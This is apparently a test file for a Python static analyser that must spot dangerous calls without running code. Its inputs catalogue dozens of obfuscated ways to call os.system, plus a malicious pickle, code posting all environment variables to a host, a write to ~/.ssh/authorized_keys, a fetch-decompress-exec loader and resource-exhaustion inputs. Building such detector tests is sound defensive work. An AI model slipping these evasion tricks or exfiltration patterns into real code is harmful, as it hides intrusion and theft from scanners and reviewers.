# ruff: noqa: E501 - one source a line
"""The Python reader: names followed, text folded, nothing run, nothing unbounded."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stannary.checks.static.walk import read_view
from stannary.formats.interface import View
from stannary.testing.forges import all_forges, make


def read(source, name="x.py"):
    return read_view(View(source.encode() if isinstance(source, str) else source, name), strict=True)


def calls(source, name="os.system"):
    return [fact.data for fact in read(source).facts if fact.kind == "python.call" and fact.data["name"] == name]


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.system('id')",
        "import os as x\nx.system('id')",
        "from os import system as f\nf('id')",
        "from os import *\nsystem('id')",
        "__import__('o' + 's').system('id')",
        "import importlib as i\ni.import_module('so'[::-1]).system('id')",
        "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')",
        "import os\nos.__dict__['sys' + 'tem']('id')",
        "import os\nvars(os)['system']('id')",
        "import os\nglobals()['os'].system('id')",
        "import sys\nsys.modules['os'].system('id')",
        "import os, operator\noperator.attrgetter('system')(os)('id')",
        "import os, operator\noperator.methodcaller('system', 'id')(os)",
        "import os, functools\nfunctools.partial(os.system, 'id')()",
        "import os\n[f('id') for f in [os.system]]",
        "import os\n{'a': os.system}['a']('id')",
        "import os\nlist(map(os.system, ['id']))",
        "import os\n(lambda c: os.system(c))('id')",
        "import os\ndef f(c):\n    return os.system(c)\nf('id')",
        "import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n    def go(self):\n        self.f('id')\nA().go()",
        "import os\nf = print\nif f:\n    f = os.system\nf('id')",
        "import os\nf = os.system if len('a') else print\nf('id')",
        "import os\n(f := os.system)('id')",
        "exec(\"import os; os.system('id')\")",
        "exec(bytes.fromhex('696d706f7274206f733b206f732e73797374656d2827696427 29'.replace(' ', '')))",
        "import os, threading\ndef f():\n    os.system('id')\nthreading.Thread(target=f).start()",
        "import os\ndef deco(f):\n    os.system('id')\n    return f\n@deco\ndef g(): pass",
        "import os\nclass M(type):\n    def __new__(c, *a):\n        os.system('id')\nclass X(metaclass=M): pass",
        "import os\nclass B:\n    def __init_subclass__(cls): os.system('id')\nclass C(B): pass",
        "import os\ndef __getattr__(name):\n    os.system('id')",
        "import os\nclass D:\n    def __enter__(self): os.system('id')\nwith D(): pass",
        "import os\nclass D:\n    def __getitem__(self, k): return os.system(k)\nD()['id']",
        "import os\nclass D:\n    def __call__(self, k): return os.system(k)\nD()('id')",
        "import os\nclass D:\n    @property\n    def x(self): return os.system('id')\nD().x",
        "import os\nos.__getattribute__('system')('id')",
        "import os\nobject.__getattribute__(os, 'system')('id')",
        "import os\nd = {}\nd['f'] = os.system\nd['f']('id')",
        "import os\nl = []\nl.append(os.system)\nl[0]('id')",
        "import os\nsetattr(os, 'x', os.system)\nos.x('id')",
        "import os\ndef f(*a, **k):\n    return k['g'](a[0])\nf('id', g=os.system)",
        "import os, sys\nsys.modules[__name__].os.system('id')",
        "import os\nx: os.system('id') = 1",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import os; os.system(\"id\")'])",
        "import os\nfor f in (print, os.system):\n    f('id')",
        "import os\nwith open('x') as h, os.popen('x') as p:\n    os.system('id')",
        "import os\ntry:\n    raise ValueError\nexcept ValueError:\n    os.system('id')",
        "import os\nmatch 1:\n    case 1:\n        os.system('id')",
        "__builtins__.__dict__['ev' + 'al']('__import__(\"os\").system(\"id\")')",
    ],
)
def test_a_call_is_found_however_it_is_named(source):
    found = [c for c in calls(source) if c["scope"] == "import"]
    assert found, read(source).facts
    assert any("id" in (c["args"] or [""])[0] or not c["args"] for c in found)


def test_a_constant_pickle_is_read():
    report = read("import pickle\npickle.loads(b'cos\\nsystem\\n(S\"echo\"\\ntR.')\n")
    assert any(name.endswith(":pickle") for name in report.formats)


def test_where_code_runs():
    source = "import os\ndef f():\n    os.system('a')\nif __name__ == '__main__':\n    os.system('b')\nos.system('c')\n"
    assert {(c["args"][0], c["scope"]) for c in calls(source)} == {("a", "function"), ("b", "main"), ("c", "import")}


def test_origins_follow_the_data():
    (call,) = calls(
        "import requests, zlib\nx = zlib.decompress(requests.get('http://x.invalid').content)\ny = [x]\nexec(y[0])", "exec"
    )
    assert {"requests.get", "zlib.decompress"} <= set(call["origins"])


def test_a_whole_environment_differs_from_one_variable():
    (whole,) = calls("import os, requests\nrequests.post('x', json=dict(os.environ))", "requests.post")
    (one,) = calls("import os, requests\nrequests.post('x', headers={'t': os.environ['T']})", "requests.post")
    assert "os.environ" in whole["origins"]
    assert "os.environ" not in one["origins"]


def test_a_path_is_put_together():
    source = "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('x')\n"
    (call,) = calls(source, "pathlib.Path.home().write_text")
    assert call["of"] == "~/.ssh/authorized_keys"


@pytest.mark.parametrize(
    "source",
    [
        "x = 'a' * 10 ** 9",
        "x = 'a'.replace('', 'b' * 100000).replace('', 'b' * 100000)",
        "x = 1 << 10 ** 9",
        "x = 10 ** 10 ** 10",
        "x = bytes(10 ** 10)",
        "x = list(range(10 ** 12))",
        "x = ','.join(['a' * 1000000] * 1000000)",
        "def f(n):\n    return f(n + 1) + f(n + 2)\nf(0)",
        "\n".join(f"def f{i}(x):\n    f{i + 1}(x + 'a')\n    f{i + 1}(x + 'b')" for i in range(60)) + "\nf0('')",
        "x = " + " + ".join(["'a'"] * 20000),
        "x = 1\n" + "if x:\n    x = 2\nel" * 2000 + "se:\n    pass\n",
        "x = [" + "1," * 100000 + "]",
        "x = y = " * 3000 + "1",
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode('" + "eJztwQENAAAAwqD3T20ON6AAAAAAAAAAAAAAAAAAAAAA" + "')))",
    ],
    ids=range(14),
)
def test_hostile_arithmetic_is_bounded(source):
    started = time.process_time()
    read(source)
    assert time.process_time() - started < 3


@pytest.mark.parametrize(
    "source",
    ["x = " + "(" * 100_000, "x = " + "-" * 100_000 + "1", "a" + ".b" * 100_000, "def f(:\n", "x = 'a\0b'", b"\xff\xfe\xff"],
)
def test_what_cannot_be_parsed_is_incomplete(source):
    assert read(source).missed


def test_large_source_is_searched_for_words():
    report = read("x = 1  # padding padding padding\n" * 90_000 + "import os\nos.system('id')\n")
    assert report.missed
    assert not any(fact.kind == "python.call" for fact in report.facts)
    early = read("os.system('id')\n" + "x = 1  # padding padding padding\n" * 90_000)
    assert any(fact.kind == "python.word" for fact in early.facts)


@pytest.mark.parametrize("name", sorted(name for name in all_forges() if name.startswith("python.")))
def test_every_truncation_is_read(name):
    raw = make(name)
    assert isinstance(raw, bytes)
    for end in range(0, len(raw), max(1, len(raw) // 40)):
        read(raw[:end])


@given(
    st.lists(
        st.sampled_from(
            [
                "import os",
                "x = os.system",
                "x('a')",
                "def f(a=x): return a",
                "f(x)('b')",
                "class C(f):",
                "    y = x",
                "for i in x: i()",
                "x, *z = z, x",
                "del x",
                "global q",
                "with x as (a, b): pass",
                "[i for i in x if i]",
            ]
        ),
        max_size=12,
    )
)
def test_any_order_of_statements_is_read(lines):
    read("\n".join(lines))
